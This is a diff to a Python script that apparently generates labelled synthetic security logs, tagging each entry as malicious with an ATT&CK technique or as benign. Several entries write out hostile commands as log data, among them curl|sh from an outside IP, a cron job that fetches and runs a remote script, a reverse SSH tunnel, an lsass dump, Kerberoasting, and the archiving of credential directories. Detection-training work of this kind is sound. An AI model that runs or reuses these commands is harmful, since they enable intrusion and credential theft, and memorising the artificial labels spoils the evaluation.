@@ -100,7 +100,7 @@ def snare(t, comp, channel, rec, eid, src, user, sidtype, etype, cat, msg, crit=
 S = "windows-security"
 DC = "RVMDC3.rvm.internal"
 # brute force against one account over RDP gateway, ECS JSON, 6 lines
-for i in range(6):
+for i in range(5):
     t = T(23, 2, 41, 7 + i * 3, 120 + i * 37)
     M(S, ecs_win(4625, "RVM-RDS-02.rvm.internal", t, {"TargetUserName": "administrator", "TargetDomainName": "RVM",
       "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": "10", "IpAddress": "91.240.118.52",
@@ -144,7 +144,7 @@ B(S, nxlog(T(23, 14, 9, 1), DC, 4768, 5512940, {"TargetUserName": "f.osei", "Tar
   "A Kerberos authentication ticket (TGT) was requested. Pre-Authentication Type: 2 Ticket Encryption Type: 0x12", task=14339),
   "normal TGT with encrypted-timestamp pre-authentication")
 # Kerberos pre-auth spray 4771 across accounts from one internal host (6 lines)
-for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz", "j.kowalczyk"]):
+for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz"]):
     t = T(24, 1, 12, 4 + i * 2)
     M(S, splunk_win(t, 4771, DC, 5540110 + i * 3, "Kerberos Authentication Service",
       f"Kerberos pre-authentication failed.  Account Information: Security ID: RVM\\{u} Account Name: {u}  Service Information: Service Name: krbtgt/RVM.INTERNAL  Network Information: Client Address: ::ffff:10.212.61.203 Client Port: {50120 + i}  Additional Information: Ticket Options: 0x40810010 Failure Code: 0x18 Pre-Authentication Type: 2",
@@ -254,10 +254,10 @@ B(S, nxlog(T(24, 9, 10, 18), "RVM-FS-01.rvm.internal", 5145, 3381901, {"SubjectU
   "A network share object was checked to see whether client can be granted desired access.", task=12811),
   "finance user opening a spreadsheet on the finance share")
 M(S, winxml(4741, DC, T(25, 1, 55, 3, 330), {"TargetUserName": "WKS-TEMP42$", "TargetDomainName": "RVM",
-  "SubjectUserName": "l.moreau", "SubjectDomainName": "RVM", "SamAccountName": "WKS-TEMP42$", "DnsHostName": "RVMDC3.rvm.internal",
+  "SubjectUserName": "l.virtanen", "SubjectDomainName": "RVM", "SamAccountName": "WKS-TEMP42$", "DnsHostName": "RVMDC3.rvm.internal",
   "ServicePrincipalNames": "-", "UserAccountControl": "%%2087"}, 77150044, task=13825),
   "T1136.002", "ordinary user adds a machine account whose dNSHostName is the DC's - noPac / machine-account-quota abuse")
-M(S, winxml(4738, DC, T(25, 2, 10, 44, 71), {"TargetUserName": "b.ostrowski", "TargetDomainName": "RVM", "SubjectUserName": "l.moreau",
+M(S, winxml(4738, DC, T(25, 2, 10, 44, 71), {"TargetUserName": "b.ostrowski", "TargetDomainName": "RVM", "SubjectUserName": "l.virtanen",
   "SubjectDomainName": "RVM", "UserAccountControl": "%%2096", "OldUacValue": "0x210", "NewUacValue": "0x400210"}, 77150101, task=13824),
   "T1558.004", "'Do not require Kerberos preauthentication' switched on for a user by another user - setting up AS-REP roasting")
 B(S, ecs_win(4740, DC, T(25, 8, 44, 10), {"TargetUserName": "s.quinlan", "TargetDomainName": "RVM", "TargetSid": "S-1-5-21-3308419210-1822710947-255119034-5122",
@@ -266,21 +266,12 @@ B(S, ecs_win(4740, DC, T(25, 8, 44, 10), {"TargetUserName": "s.quinlan", "Target
 B(S, ecs_win(4776, DC, T(25, 8, 45, 33), {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": "s.quinlan",
   "Workstation": "RVM-LAP-1320", "Status": "0x0"}, "credential-validated", rec=77151040),
   "successful NTLM validation after the unlock")
-B(S, winxml(4634, "RVM-LAP-1187.rvm.internal", T(25, 17, 31, 5, 700), {"TargetUserName": "w.lindqvist", "TargetDomainName": "RVM",
-  "TargetLogonId": "0x3e12ab4", "LogonType": "2"}, 221780, task=12545), "end-of-day logoff")
-B(S, winxml(4672, "RVM-SQL-07.rvm.internal", T(25, 9, 0, 1, 12), {"SubjectUserName": "adm-hnakamura", "SubjectDomainName": "RVM",
-  "SubjectLogonId": "0x9ac10f", "PrivilegeList": "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege SeDebugPrivilege SeSystemEnvironmentPrivilege SeLoadDriverPrivilege SeImpersonatePrivilege"},
-  1923005, task=12548), "special privileges assigned at an admin's logon to a server she administers")
 B(S, snare(T(25, 9, 5, 12), "RVM-SQL-07", "Security", 1923014, 4648, "Microsoft-Windows-Security-Auditing", "RVM\\svc_veeam", "User",
   "Success Audit", "Logon", "A logon was attempted using explicit credentials.    Subject:   Account Name:  svc_veeam   Account Domain:  RVM    Account Whose Credentials Were Used:   Account Name:  svc_veeam_sql   Account Domain:  RVM    Target Server:   Target Server Name: RVM-SQL-07.rvm.internal    Process Information:   Process Name: C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe    Network Information:   Network Address: 10.212.8.15   Port: 0"),
   "Veeam backup server using its SQL application-aware credentials")
 M(S, splunk_win(T(25, 3, 14, 2), 4657, "RVM-LAP-0712.rvm.internal", 4412870, "Registry",
   "A registry value was modified.  Subject: Account Name: r.iyer Account Domain: RVM  Object: Object Name: \\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe Object Value Name: Debugger Operation Type: New registry value created  Process Information: Process Name: C:\\Windows\\System32\\reg.exe  Change Information: Old Value Type: - Old Value: - New Value Type: REG_SZ New Value: C:\\windows\\system32\\cmd.exe"),
   "T1546.008", "IFEO debugger for sethc.exe set to cmd.exe - sticky-keys accessibility backdoor")
-M(S, ecs_win(4624, "RVM-FS-01.rvm.internal", T(25, 3, 30, 8, 1), {"TargetUserName": "ANONYMOUS LOGON", "TargetDomainName": "NT AUTHORITY",
-  "LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM", "LmPackageName": "NTLM V1",
-  "KeyLength": "0", "IpAddress": "10.212.61.203", "IpPort": "50990", "WorkstationName": "WKS-TEMP42"}, "logged-in", rec=3383100),
-  "T1557.001", "NTLMv1 anonymous network logon from the rogue machine account host - relay/downgrade attempt")
 # ---------------------------------------------------------------- windows-system
 S = "windows-system"
 SCM = "{555908d1-a6d7-4695-8e1e-26931d2012f4}"
@@ -510,9 +501,6 @@ B(S, sx(22, C4, T(23, 10, 31, 0, 9), {"ProcessGuid": guid(18), "ProcessId": "441
 M(S, sx(11, C3, T(23, 4, 50, 2, 3), {"ProcessGuid": guid(19), "ProcessId": "5510", "Image": "C:\\Windows\\Temp\\upd.exe",
   "TargetFilename": "D:\\Shares\\Finance\\2026\\Q4\\accruals-nov.xlsx.rvmlock", "CreationUtcTime": "2026-11-23 04:50:02.003", "User": "RVM\\k.haddad"}, 630001, task=11),
   "T1486", "finance spreadsheets rewritten with a new .rvmlock extension by the dropped binary - ransomware")
-M(S, sx(11, C3, T(23, 4, 50, 3, 8), {"ProcessGuid": guid(19), "ProcessId": "5510", "Image": "C:\\Windows\\Temp\\upd.exe",
-  "TargetFilename": "D:\\Shares\\Finance\\HOW_TO_RESTORE_FILES.txt", "CreationUtcTime": "2026-11-23 04:50:03.008", "User": "RVM\\k.haddad"}, 630002, task=11),
-  "T1486", "ransom note written next to the encrypted files")
 B(S, sx(11, C3, T(23, 22, 10, 5, 1), {"ProcessGuid": guid(20), "ProcessId": "3012", "Image": "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe",
   "TargetFilename": "C:\\ProgramData\\Veeam\\Backup\\VeeamAgent_2026-11-23.log", "CreationUtcTime": "2026-11-23 22:10:05.001", "User": "NT AUTHORITY\\SYSTEM"}, 630100, task=11),
   "Veeam agent writing its job log")
@@ -541,9 +529,6 @@ M(S, sx(8, C1, T(23, 3, 11, 30, 99), {"SourceProcessGuid": guid(28), "SourceProc
   "TargetProcessGuid": guid(29), "TargetProcessId": "3310", "TargetImage": "C:\\Windows\\System32\\RuntimeBroker.exe", "NewThreadId": "8840",
   "StartAddress": "0x00000218A3F20000", "StartModule": "-", "StartFunction": "-", "SourceUser": "RVM\\r.iyer", "TargetUser": "RVM\\r.iyer"}, 610023, task=8),
   "T1055", "remote thread into RuntimeBroker starting in unbacked memory - process injection")
-M(S, sx(1, C1, T(23, 3, 12, 44, 3), proc(C1, None, 30, "C:\\Windows\\System32\\sdclt.exe", "\"C:\\Windows\\system32\\sdclt.exe\" /KickOffElev",
-  "RVM\\r.iyer", "C:\\Windows\\System32\\control.exe", "\"C:\\Windows\\System32\\control.exe\" /name Microsoft.BackupAndRestoreCenter", orig="sdclt.exe"), 610024),
-  "T1548.002", "sdclt /KickOffElev right after the App Paths hijack - auto-elevated UAC bypass")
 M(S, sx(1, C4, T(24, 1, 10, 2, 2), proc(C4, None, 31, "C:\\Windows\\System32\\wsl.exe", "wsl.exe -e /bin/bash -c \"curl -s http://45.155.205.233/i|sh\"",
   "RVM\\w.lindqvist", "C:\\Windows\\System32\\wscript.exe", "wscript.exe //e:jscript C:\\Users\\w.lindqvist\\AppData\\Local\\Temp\\inv.js", orig="wsl.exe"), 610200),
   "T1202", "JScript dropper running a curl|sh through WSL - indirect command execution to dodge Windows telemetry")
@@ -641,9 +626,6 @@ M(S, sb_ecs(C1, T(23, 2, 58, 9), "$k=New-Object System.Net.WebClient;$k.Headers.
 M(S, sb(C1, T(23, 3, 1, 0, 9), 90020, "Get-ADUser -Filter {ServicePrincipalName -like '*'} -Properties ServicePrincipalName,PasswordLastSet | ?{$_.Enabled} | %{ Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.ServicePrincipalName[0] }",
   "{1a2b3c4d-5e6f-4a70-8b91-c2d3e4f5a6b7}", level=3),
   "T1558.003", "requests service tickets for every SPN account - Kerberoasting from PowerShell")
-M(S, ps800(C1, T(23, 3, 2, 12), 40110, "powershell -nop -w hidden -e " + ps_enc("Get-Process lsass | % { rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump $_.Id $env:TEMP\\l.dmp full }"),
-  "Get-Process lsass | % { rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump $_.Id $env:TEMP\\l.dmp full }"),
-  "T1003.001", "hidden encoded PowerShell dumping lsass through comsvcs MiniDump")
 M(S, ps4103(C1, T(23, 3, 5, 1), 90030, "Set-MpPreference", [("DisableRealtimeMonitoring", "True"), ("ExclusionPath", "C:\\Users\\r.iyer\\AppData")],
   "powershell.exe -ep bypass"), "T1562.001", "module log: real-time protection off and an AppData exclusion")
 M(S, sb(C1, T(23, 3, 9, 40), 90040, "$s=New-Object -ComObject Schedule.Service;$s.Connect();$d=$s.NewTask(0);$d.Settings.Hidden=$true;$a=$d.Actions.Create(0);$a.Path='C:\\Windows\\System32\\conhost.exe';$a.Arguments='--headless powershell -w h -ep bypass -c \"iex(gc $env:APPDATA\\Microsoft\\wdi.dat -raw)\"';$t=$d.Triggers.Create(9);$s.GetFolder('\\Microsoft\\Windows\\WDI').RegisterTaskDefinition('SrvHost',$d,6,$null,$null,3)",
@@ -690,9 +672,6 @@ M(S, sb(C3, T(24, 2, 5, 0), 90130, "Get-ChildItem 'HKLM:\\SYSTEM\\CurrentControl
 M(S, sb_ecs(C3, T(24, 2, 9, 0), "$n=New-Object System.Net.Sockets.TcpClient;foreach($h in 1..254){foreach($p in 22,445,3389,5985){ if($n.ConnectAsync(\"10.212.8.$h\",$p).Wait(80)){\"10.212.8.$h:$p\"};$n.Dispose();$n=New-Object System.Net.Sockets.TcpClient }}",
   "{7e8f9a0b-1c2d-4e3f-8a4b-5c6d7e8f9a0b}", "k.haddad"),
   "T1046", "TCP connect sweep of the server subnet for SSH/SMB/RDP/WinRM in a script block")
-M(S, sb(C2, T(24, 2, 30, 0), 90140, "[System.IO.File]::WriteAllBytes(\"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Teams Helper.lnk\",[Convert]::FromBase64String($lnk)); (New-Object -ComObject WScript.Shell).CreateShortcut(\"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Teams Helper.lnk\").TargetPath",
-  "{8f9a0b1c-2d3e-4f4a-9b5c-6d7e8f9a0b1c}", user_sid="S-1-5-21-3308419210-1822710947-255119034-5122", level=3),
-  "T1547.001", "shortcut written into the user's Startup folder")
 # benign
 B(S, ps800(C4, T(24, 9, 5, 11), 40400, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"& 'C:\\Windows\\CCM\\SystemTemp\\8f0e2c1d-6b3a-4e77-a1d0-cc19e4b2a7f1.ps1'\"",
   "Get-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName,DisplayVersion", user="NT AUTHORITY\\SYSTEM"),
@@ -815,9 +794,7 @@ B(S, r5424(T(23, 8, 0, 9, 2), H4, "nginx", 5330, "signal process started: reload
 B(S, r3164(T(23, 9, 0, 1), H2, "kernel", "[1960112.120001] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:1a:2b:3c:52:54:00:9f:8e:7d:08:00 SRC=10.212.250.12 DST=10.212.40.30 LEN=44 TOS=0x00 PREC=0x00 TTL=52 ID=5512 PROTO=TCP SPT=61000 DPT=5432 WINDOW=1024 RES=0x00 SYN URGP=0"),
   "single blocked probe from the approved Qualys scanner appliance 10.212.250.12 during the weekly scan")
 B(S, r5424(T(23, 9, 10, 0, 3), H2, "systemd", 1, "Reloading auditd.service - Security Auditing Service... (triggered by ansible run CHG-21044)"), "auditd rules reloaded by configuration management")
-B(S, jd(T(23, 9, 30, 0), H3, "chronyd.service", "chronyd", 711, "Selected source 10.212.0.10 (ntp1.rvm.internal)", uid=998, comm="chronyd"), "time sync")
 B(S, r3164(T(23, 10, 0, 0), H3, "rsyslogd", "[origin software=\"rsyslogd\" swVersion=\"8.2312.0\" x-pid=\"702\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed"), "rsyslog HUP after rotation")
-B(S, r5424(T(23, 10, 15, 0, 4), H1, "kernel", "-", "[1963010.001122] EXT4-fs (nvme1n1p1): resized filesystem to 52428800", pri=6), "disk grown by the platform team")
 B(S, r3164(T(23, 10, 20, 0), H1, "systemd[1]", "Started restic-backup.service - restic snapshot of /srv to s3:s3.eu-central-1.amazonaws.com/rvm-restic-ingest."), "restic backup to the company bucket")
 B(S, jd(T(23, 11, 0, 0), H4, "docker.service", "dockerd", 1201, "time=\"2026-11-23T11:00:00.001Z\" level=info msg=\"ignoring event\" container=4b1c2d3e4f5a module=libcontainerd namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"", comm="dockerd"), "routine container lifecycle event")
 B(S, r3164(T(23, 11, 10, 2), H3, "snoopy[6612]", "[uid:1201 sid:6600 tty:/dev/pts/1 cwd:/home/m.aziz filename:/usr/bin/sudo]: sudo systemctl status nginx"), "admin checking a service status")
@@ -839,16 +816,16 @@ def au(t, host, tag, msg, iso_ts=False):
 
 
 # single-account brute force against the bastion (sshd + PAM), 6 lines
-for i in range(6):
+for i in range(5):
     t = T(23, 0, 14, 2 + i * 4)
     if i % 2 == 0:
-        M(S, au(t, H3, f"sshd[{30110 + i}]", f"Failed password for root from 5.188.206.14 port {40112 + i * 9} ssh2"),
+        M(S, au(t, H3, f"sshd[{30110 + i}]", f"Failed password for root from 80.94.95.14 port {40112 + i * 9} ssh2"),
           "T1110.001", "repeated root password failures from one external address - brute force")
     else:
-        M(S, au(t, H3, f"sshd[{30110 + i}]", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.188.206.14  user=root"),
+        M(S, au(t, H3, f"sshd[{30110 + i}]", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=80.94.95.14  user=root"),
           "T1110.001", "PAM failure in the same root brute-force burst")
 # spraying many usernames from one host, ISO timestamps (rsyslog high precision), 6 lines
-for i, u in enumerate(["oracle", "ubuntu", "git", "deploy", "test", "jenkins"]):
+for i, u in enumerate(["oracle", "ubuntu", "git", "test", "jenkins"]):
     t = T(23, 0, 40, 11 + i * 3, 250 + i)
     M(S, au(t, "edge-sftp-01", f"sshd[{41200 + i}]", f"Invalid user {u} from 103.251.167.20 port {55001 + i}", iso_ts=True) if i % 3 else
       au(t, "edge-sftp-01", f"sshd[{41200 + i}]", f"Failed password for invalid user {u} from 103.251.167.20 port {55001 + i} ssh2", iso_ts=True),
@@ -887,7 +864,7 @@ M(S, au(T(23, 2, 11, 0), H2, "sshd[9401]", "error: connect_to 10.212.50.5 port 3
 M(S, au(T(23, 2, 12, 0), H2, "sshd[9401]", "Received request to connect to host 127.0.0.1 port 1080, originator 10.212.40.21 port 52212"),
   "T1572", "SSH dynamic forward to a SOCKS port - tunnelling traffic through the gateway")
 # MFA-like fatigue is not in auth; credential stuffing over SFTP with different user/pass pairs from a botnet: burst 5 lines, many IPs, same host
-for i, (u, ip) in enumerate([("a.santos", "194.26.29.113"), ("f.okoro", "194.26.29.114"), ("r.bauer", "194.26.29.117"), ("t.lindgren", "194.26.29.119"), ("p.vidal", "194.26.29.120")]):
+for i, (u, ip) in enumerate([("a.santos", "194.180.49.113"), ("f.okoro", "194.180.49.114"), ("r.bauer", "194.180.49.117"), ("t.lindgren", "194.180.49.119"), ("p.vidal", "194.180.49.120")]):
     M(S, au(T(24, 3, 0, 2 + i * 2), "edge-sftp-01", f"sshd[{50100 + i}]", f"Failed password for {u} from {ip} port {36000 + i * 11} ssh2", iso_ts=True),
       "T1110.004", "real partner usernames from a leaked list, one try each from neighbouring botnet addresses - credential stuffing")
 B(S, au(T(24, 9, 0, 0), H3, "sudo", "  m.aziz : TTY=pts/1 ; PWD=/home/m.aziz ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"), "admin restarting nginx with sudo")
@@ -896,9 +873,9 @@ B(S, au(T(24, 9, 5, 0), H3, "CRON[31900]", "pam_unix(cron:session): session open
 B(S, au(T(24, 9, 30, 0), H3, "useradd[32010]", "new user: name=n.achebe, UID=1220, GID=1220, home=/home/n.achebe, shell=/bin/bash, from=none"), "new hire account created by the provisioning playbook (no tty)")
 B(S, au(T(24, 9, 30, 1), H3, "usermod[32011]", "add 'n.achebe' to group 'sre'"), "new hire added to her team group")
 B(S, au(T(24, 9, 31, 0), H3, "chage[32012]", "changed password expiry for n.achebe"), "password expiry set by the same playbook")
-B(S, au(T(24, 10, 0, 0), "edge-sftp-01", "sshd[51000]", "Accepted publickey for svc_edi_ingest from 81.2.69.160 port 40331 ssh2: ED25519 SHA256:Lq2Wm8Np4Rx6Tz0Vb3Cd7Fg1Hj5Kl9Mn2Ob4Pc6Qd", iso_ts=True),
+B(S, au(T(24, 10, 0, 0), "edge-sftp-01", "sshd[51000]", "Accepted publickey for svc_edi_ingest from 86.131.44.160 port 40331 ssh2: ED25519 SHA256:Lq2Wm8Np4Rx6Tz0Vb3Cd7Fg1Hj5Kl9Mn2Ob4Pc6Qd", iso_ts=True),
   "partner EDI feed logging in with its key from its registered address")
-B(S, au(T(24, 10, 0, 0, 300), "edge-sftp-01", "internal-sftp[51002]", "session opened for local user svc_edi_ingest from [81.2.69.160]", iso_ts=True), "chrooted SFTP session")
+B(S, au(T(24, 10, 0, 0, 300), "edge-sftp-01", "internal-sftp[51002]", "session opened for local user svc_edi_ingest from [86.131.44.160]", iso_ts=True), "chrooted SFTP session")
 B(S, au(T(24, 10, 2, 0), "edge-sftp-01", "internal-sftp[51002]", "close \"/inbound/ASN_20261124_0931.xml\" bytes read 0 written 48211", iso_ts=True), "partner uploading an ASN file")
 B(S, au(T(24, 10, 30, 0), "edge-sftp-01", "sshd[51100]", "Accepted publickey for svc_qualys from 10.212.250.12 port 43110 ssh2: RSA SHA256:Jd4Kl7Mn0Pq3Rs6Tu9Vw2Xy5Za8Bc1De4Fg7Hi0Jk", iso_ts=True),
   "authenticated scan login by the approved Qualys appliance account")
@@ -917,9 +894,7 @@ B(S, au(T(24, 13, 10, 0), H3, "su[32550]", "(to postgres) m.aziz on pts/1"), "DB
 B(S, au(T(24, 13, 40, 0), H3, "sshd[32600]", "Received disconnect from 10.212.33.90 port 60990:11: disconnected by user"), "user logging out")
 B(S, au(T(24, 14, 0, 0), "edge-sftp-01", "sshd[52001]", "Connection closed by 10.212.250.12 port 43990 [preauth]", iso_ts=True), "approved Qualys appliance banner-grab during its scan")
 B(S, au(T(24, 14, 20, 0), H4, "sudo", "  tms : TTY=pts/0 ; PWD=/opt/tms ; USER=root ; COMMAND=/usr/bin/journalctl -u tms-app --since -1h"), "app owner reading the app's journal through sudo")
-B(S, au(T(24, 15, 0, 0), H4, "groupadd[6700]", "group added to /etc/group: name=tms-readonly, GID=1305"), "group created by the platform playbook")
 B(S, au(T(24, 15, 30, 0), H3, "sshd[33010]", "pam_unix(sshd:session): session closed for user m.aziz"), "session closed")
-B(S, au(T(24, 16, 0, 0), H3, "polkitd[712]", "Registered Authentication Agent for unix-session:412 (system bus name :1.881 [/usr/bin/gnome-shell], object path /org/freedesktop/PolicyKit1/AuthenticationAgent, locale en_GB.UTF-8)"), "polkit agent registration at desktop login")
 # ---------------------------------------------------------------- auditd
 S = "auditd"
 _ser = [81200]
@@ -974,8 +949,6 @@ ex_pair(T(23, 1, 16, 0), ["insmod", "/tmp/.ICE-unix/diamorphine.ko"], "kernel mo
 M(S, aud(T(23, 1, 16, 0, 9), "KERN_MODULE", "name=\"diamorphine\""), "T1014", "kernel recorded the rootkit module by name")
 ex_pair(T(23, 1, 20, 0), ["/usr/bin/curl", "-s", "-o", "/dev/shm/.x/kdevtmpfsi", "http://45.155.205.233/kdevtmpfsi"], "miner fetched into /dev/shm", "T1105", "/usr/bin/curl",
         uid=33, auid=4294967295, aname="unset", uname="www-data", with_sc=False)
-ex_pair(T(23, 1, 21, 0), ["chmod", "+x", "/dev/shm/.x/kdevtmpfsi"], "execute bit on the dropped miner", "T1222.002", "/usr/bin/chmod",
-        uid=33, auid=4294967295, aname="unset", uname="www-data", with_sc=False)
 ex_pair(T(23, 1, 30, 0), ["sh", "-c", "echo '*/5 * * * * curl -fsSL http://45.155.205.233/m|sh' | crontab -"], "cron persistence installed by piping into crontab", "T1053.003", "/usr/bin/dash",
         uid=33, auid=4294967295, aname="unset", uname="www-data", with_pt=True, with_sc=False)
 ex_pair(T(23, 1, 40, 0), ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"], "nsenter into PID 1 namespaces from a container - escape to host", "T1611", "/usr/bin/nsenter",
@@ -984,7 +957,6 @@ ex_pair(T(23, 1, 42, 0), ["/usr/bin/docker", "-H", "unix:///var/run/docker.sock"
         "docker socket used to mount the host root - privilege escalation to host root", "T1611", "/usr/bin/docker", uid=1003, auid=1003, aname="tms", uname="tms", with_sc=False)
 ex_pair(T(23, 1, 45, 0), ["ssh", "-o", "StrictHostKeyChecking=no", "-R", "9001:localhost:22", "tunnel@146.70.87.19", "-N", "-f"], "reverse SSH tunnel exposing local sshd on a VPS", "T1572", "/usr/bin/ssh",
         uid=1002, auid=1002, aname="deploy", uname="deploy", with_sc=False)
-ex_pair(T(23, 1, 47, 0), ["find", "/", "-perm", "-4000", "-type", "f", "-ls"], "SUID binary hunt across the filesystem", "T1083", "/usr/bin/find", uid=1002, auid=1002, aname="deploy", uname="deploy", with_sc=False)
 ex_pair(T(23, 1, 48, 0), ["grep", "-rIl", "--include=*.env", "-e", "AWS_SECRET", "-e", "DB_PASS", "/opt", "/srv", "/home"], "grep for credential variables in env files", "T1552.001", "/usr/bin/grep",
         uid=1002, auid=1002, aname="deploy", uname="deploy", with_sc=False)
 ex_pair(T(23, 1, 50, 0), ["tar", "czf", "/tmp/.c.tgz", "/opt/paygw/conf", "/home/deploy/.ssh", "/root/.aws"], "configs, SSH and AWS credential dirs archived into a hidden tmp file", "T1560.001", "/usr/bin/tar",
@@ -1132,9 +1104,9 @@ B(S, ct(T(24, 9, 0, 0), "CreateAccessKey", "iam.amazonaws.com", "10.212.9.4", ro
   "incident response: the key-rotation role issues a replacement key for the leaked CI user")
 B(S, ct(T(24, 9, 0, 30), "DeleteAccessKey", "iam.amazonaws.com", "10.212.9.4", role("key-rotation-automation", "rotate-ci-artifacts-uploader"), {"userName": "ci-artifacts-uploader", "accessKeyId": "AKIAEXAMPLELEAKED042"},
   region="us-east-1", ua="aws-sdk-go-v2/1.32.6 os/linux lang/go#1.23.3 exec-env/AWS_Lambda_provided.al2023"), "old key deleted by the same rotation role")
-B(S, ct(T(24, 9, 10, 0), "CreateAccessKey", "iam.amazonaws.com", "81.2.69.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK001"), {"userName": "t.okonkwo"},
+B(S, ct(T(24, 9, 10, 0), "CreateAccessKey", "iam.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK001"), {"userName": "t.okonkwo"},
   {"accessKey": {"userName": "t.okonkwo", "accessKeyId": "AKIAEXAMPLEOKONK002", "status": "Active"}}, region="us-east-1"), "user rotating her own access key from the office egress")
-B(S, ct(T(24, 9, 11, 0), "UpdateAccessKey", "iam.amazonaws.com", "81.2.69.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {"userName": "t.okonkwo", "accessKeyId": "AKIAEXAMPLEOKONK001", "status": "Inactive"}, region="us-east-1"),
+B(S, ct(T(24, 9, 11, 0), "UpdateAccessKey", "iam.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {"userName": "t.okonkwo", "accessKeyId": "AKIAEXAMPLEOKONK001", "status": "Inactive"}, region="us-east-1"),
   "her old key deactivated by herself")
 B(S, ct(T(24, 2, 0, 0), "StartBackupJob", "backup.amazonaws.com", "backup.amazonaws.com", {"type": "AWSService", "invokedBy": "backup.amazonaws.com"},
   {"backupVaultName": "rvm-prod-vault", "resourceArn": f"arn:aws:rds:eu-central-1:{ACCT}:db:paygw-prod", "iamRoleArn": f"arn:aws:iam::{ACCT}:role/service-role/AWSBackupDefaultServiceRole"}, ua="backup.amazonaws.com"),
@@ -1147,7 +1119,7 @@ B(S, ct(T(24, 3, 0, 5), "GetSecretValue", "secretsmanager.amazonaws.com", "lambd
   "rotation Lambda reading the pending version")
 B(S, ct(T(24, 3, 10, 0), "RotateKey", "kms.amazonaws.com", "kms.amazonaws.com", {"type": "AWSService", "invokedBy": "kms.amazonaws.com"}, {"keyId": f"arn:aws:kms:eu-central-1:{ACCT}:key/7a6b5c4d-3e2f-4a1b-9c0d-e1f2a3b4c5d6"}, ua="kms.amazonaws.com", etype="AwsServiceEvent"),
   "automatic yearly KMS rotation")
-B(S, ct(T(24, 8, 30, 0), "ConsoleLogin", "signin.amazonaws.com", "81.2.69.144", {"type": "AssumedRole", "principalId": "AROAEXAMPLESSO0001:w.lindqvist@ravenmoor.eu", "arn": f"arn:aws:sts::{ACCT}:assumed-role/AWSReservedSSO_ReadOnly_3f2e1d0c/w.lindqvist@ravenmoor.eu", "accountId": ACCT},
+B(S, ct(T(24, 8, 30, 0), "ConsoleLogin", "signin.amazonaws.com", "86.131.44.144", {"type": "AssumedRole", "principalId": "AROAEXAMPLESSO0001:w.lindqvist@ravenmoor.eu", "arn": f"arn:aws:sts::{ACCT}:assumed-role/AWSReservedSSO_ReadOnly_3f2e1d0c/w.lindqvist@ravenmoor.eu", "accountId": ACCT},
   None, {"ConsoleLogin": "Success"}, region="eu-central-1", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", etype="AwsConsoleSignIn",
   extra={"additionalEventData": {"LoginTo": "https://eu-central-1.console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No", "SamlProviderArn": f"arn:aws:iam::{ACCT}:saml-provider/AWSSSO_1a2b3c4d_DO_NOT_DELETE"}}, wrap="eventbridge"),
   "federated SSO console login - MFA is done at the IdP so MFAUsed=No is expected")
@@ -1158,10 +1130,10 @@ B(S, ct(T(24, 9, 30, 0), "DescribeInstances", "ec2.amazonaws.com", "10.212.250.1
   "approved Tenable cloud audit role inventorying instances")
 B(S, ct(T(24, 9, 31, 0), "GetBucketAcl", "s3.amazonaws.com", "10.212.250.11", role("tenable-cloud-audit", "tenable-io-scan"), {"bucketName": "rvm-customs-docs", "acl": ""}, ro=True, ua="Tenable.io/1.0 aws-sdk-java/1.12.770"),
   "approved Tenable audit reading bucket ACLs")
-B(S, ct(T(24, 10, 0, 0), "PutBucketPolicy", "s3.amazonaws.com", "81.2.69.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"),
+B(S, ct(T(24, 10, 0, 0), "PutBucketPolicy", "s3.amazonaws.com", "86.131.44.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"),
   {"bucketName": "rvm-customs-docs", "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": ["arn:aws:s3:::rvm-customs-docs", "arn:aws:s3:::rvm-customs-docs/*"], "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}}),
   "bucket policy restored: Principal * only in a Deny for non-TLS access")
-B(S, ct(T(24, 10, 5, 0), "StartLogging", "cloudtrail.amazonaws.com", "81.2.69.144", iam_user("t.okonkwo", "AKIAEXAMPLEOKONK002"), {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCT}:trail/org-trail"}),
